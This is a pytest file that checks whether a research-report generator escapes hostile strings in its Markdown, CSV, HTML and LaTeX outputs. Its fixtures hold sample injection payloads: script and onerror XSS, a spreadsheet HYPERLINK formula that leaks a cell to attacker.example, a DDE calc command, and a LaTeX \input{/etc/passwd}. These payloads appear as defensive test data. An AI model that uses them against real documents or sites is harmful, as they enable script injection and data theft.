"""Report output sinks escape what they print (issue 16, group 4: unsafe output).

Hostile variant, category, metric and error strings, as a study script, a hand-edited MLflow
tag or a failing cell could record them, must never act as Markdown or HTML markup, split a
table row, run as a spreadsheet formula, or break out of an HTML attribute; and a study whose
every cell failed must say which cells failed and why.

# ---- bad-input campaign: report output safety (to merge into tests/test_bad_inputs.py) ----
"""

import csv
import re
from html.parser import HTMLParser

import pandas as pd
import pytest
from conftest import compile_latex

from pagmfr.report import build_report
from pagmfr.report.escape import csv_cell

SCRIPT = "<script>alert(1)</script>"
PIPE_VARIANT = "w/o MFFM | fake column"
HTML_VARIANT = f"{SCRIPT} <img src=x onerror=alert(2)>"
FORMULA_VARIANT = '=HYPERLINK("http://attacker.example/?leak="&A1,"click")'
CATEGORY = "@SUM(1+1)*cmd|' /C calc'!A0"
LATEX_VARIANT = r"\input{/etc/passwd} $x$ 50% {}"
METRIC = "au_pro' onmouseover='alert(3)"
ERROR = "Traceback ...\n-2+3 <b>bold</b> | cell"


def _runs(variants, category=CATEGORY, status="FINISHED"):
    rows = []
    for position, variant in enumerate(variants):
        for seed in (0, 1):
            rows.append(
                {
                    "run_id": f"{variant}-{seed}",
                    "variant": variant,
                    "method": "pagmfr",
                    "category": category,
                    "kind": "object",
                    "seed": seed,
                    "status": status,
                    "end_time": seed,
                    "error": ERROR if status == "FAILED" else None,
                    "params.loss.focal_alpha": "-1.0",  # MLflow params are text
                    "au_pro": 0.8 - 0.02 * position - 0.1 * seed if status == "FINISHED" else None,
                }
            )
    return pd.DataFrame(rows)


@pytest.fixture(scope="module")
def hostile(tmp_path_factory):
    out = tmp_path_factory.mktemp("hostile")
    variants = ["full model", PIPE_VARIANT, HTML_VARIANT, FORMULA_VARIANT, LATEX_VARIANT]
    finished = _runs(variants).assign(**{METRIC: lambda d: d["au_pro"]})
    runs = pd.concat([finished, _runs(["missing one"], status="FAILED")])
    build_report(runs, out, f"Study {SCRIPT}", metrics=["au_pro", METRIC])
    return out


def _table_rows(markdown: str) -> list[str]:
    return [line for line in markdown.splitlines() if line.startswith("|")]


def _cells(row: str) -> list[str]:
    """A GitHub table row's cells: split on pipes that are not backslash-escaped."""
    return re.split(r"(?<!\\)\|", row.strip())[1:-1]


@pytest.mark.parametrize("name", ["report.md", "components.md"])
def test_markdown_carries_no_raw_html_and_no_extra_cells(hostile, name):
    text = (hostile / name).read_text()
    assert not re.search(r"(?<!\\)[<>]", text)  # every angle bracket escaped: no raw HTML
    assert "\\<script\\>" in text  # shown as text
    for block in text.split("\n\n"):
        rows = _table_rows(block)
        if rows:
            assert len({len(_cells(row)) for row in rows}) == 1, rows
    assert "w/o MFFM \\| fake column" in text
    assert "\\\\input{/etc/passwd} \\$x\\$ 50% {}" in text  # no maths either


def test_markdown_missing_list_escapes_the_error(hostile):
    text = (hostile / "report.md").read_text()
    assert "- missing one / @SUM(1+1)\\*cmd\\|' /C calc'!A0 / seed 0: FAILED" in text
    assert "\\<b\\>bold\\</b\\> \\| cell" in text


def _csv(path):
    with open(path, newline="") as handle:
        return list(csv.reader(handle))


@pytest.mark.parametrize("name", ["runs.csv", "tables.csv", "components.csv"])
def test_csv_text_never_starts_a_formula(hostile, name):
    rows = _csv(hostile / name)
    for row in rows:
        for cell in row:
            if cell.startswith(("=", "+", "-", "@", "\t", "\r")):
                float(cell)  # only numbers may: a spreadsheet reads them as the same number


def test_csv_keeps_numbers_as_numbers_and_text_readable(hostile):
    runs = pd.read_csv(hostile / "runs.csv")
    assert "'" + FORMULA_VARIANT in set(runs["variant"])
    assert "'" + CATEGORY in set(runs["category"])
    assert set(runs["params.loss.focal_alpha"]) == {-1.0}  # text that is a number: unchanged
    components = pd.read_csv(hostile / "components.csv")
    assert (components["delta"].dropna() < 0).any()  # negative numbers stay numbers
    assert csv_cell("-1e-5") == "-1e-5" and csv_cell("-2+3") == "'-2+3"
    assert csv_cell("@cmd") == "'@cmd" and csv_cell("\t=1") == "'\t=1" and csv_cell(-2.5) == -2.5


class _Attributes(HTMLParser):
    def __init__(self):
        super().__init__()
        self.tags, self.attributes = [], []

    def handle_starttag(self, tag, attrs):
        self.tags.append(tag)
        self.attributes += attrs


def test_html_escapes_text_and_attributes(hostile):
    text = (hostile / "report.html").read_text()
    parser = _Attributes()
    parser.feed(text)
    assert "script" not in parser.tags and "img" in parser.tags  # only the figures' images
    names = {name for name, _ in parser.attributes}
    assert not any(name.startswith("on") for name in names), names
    ids = [value for name, value in parser.attributes if name == "id"]
    assert all(re.fullmatch(r"[A-Za-z0-9_-]+", value) for value in ids), ids
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in text


@pytest.mark.integration
def test_latex_escapes_names_and_compiles(hostile, pdflatex):
    tex = (hostile / "components.tex").read_text()
    assert (
        r"\input{/etc" not in tex and r"\textbackslash{}input\{/etc/passwd\} \$x\$ 50\% \{\}" in tex
    )
    labels = re.findall(r"\\label\{([^}]*)\}", (hostile / "au_pro.tex").read_text())
    assert labels and all(re.fullmatch(r"tab:[A-Za-z0-9_-]+", label) for label in labels)
    assert (hostile / "au_pro-onmouseover-alert-3.tex").is_file()  # a name, never a path
    compile_latex(pdflatex, hostile, ["components.tex", "au_pro.tex", "au_pro-onmouseover-alert-3"])


def test_a_study_whose_every_cell_failed_lists_the_failures(tmp_path):
    runs = _runs(["full model", "w/o MFFM"], category="brick", status="FAILED")
    with pytest.raises(ValueError) as caught:
        build_report(runs, tmp_path, "Study all-failed", metrics=["au_pro"])
    message = str(caught.value)
    assert message.startswith("Study all-failed: no finished run yet; 4 cell(s) without one:")
    for variant in ("full model", "w/o MFFM"):
        for seed in (0, 1):
            assert f"{variant} / brick / seed {seed}: FAILED (-2+3 <b>bold</b> | cell)" in message


# ---- end of the bad-input campaign block ----
